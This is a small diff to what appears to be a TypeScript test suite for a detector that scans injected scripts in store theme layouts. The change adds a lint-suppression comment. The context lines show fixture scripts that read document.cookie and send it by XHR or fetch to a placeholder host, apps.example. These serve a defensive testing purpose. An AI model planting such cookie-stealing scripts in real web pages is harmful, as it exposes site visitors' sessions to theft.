@@ -4,6 +4,7 @@ import { find, LAYOUT, places } from './find.ts'
 
 const page = (script: string) => ({ 'layout/theme.liquid': LAYOUT.replace('</body>', `<script>${script}</script></body>`) })
 
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: scripts of pages.
 test.each([
   'var p = `shop=${shop}&cookies=${document.cookie}`; http.open("POST", "https://apps.example/save.php"); http.send(p)',
   'fetch("https://apps.example/save", { method: "POST", body: JSON.stringify({ cookie: document.cookie }) })',
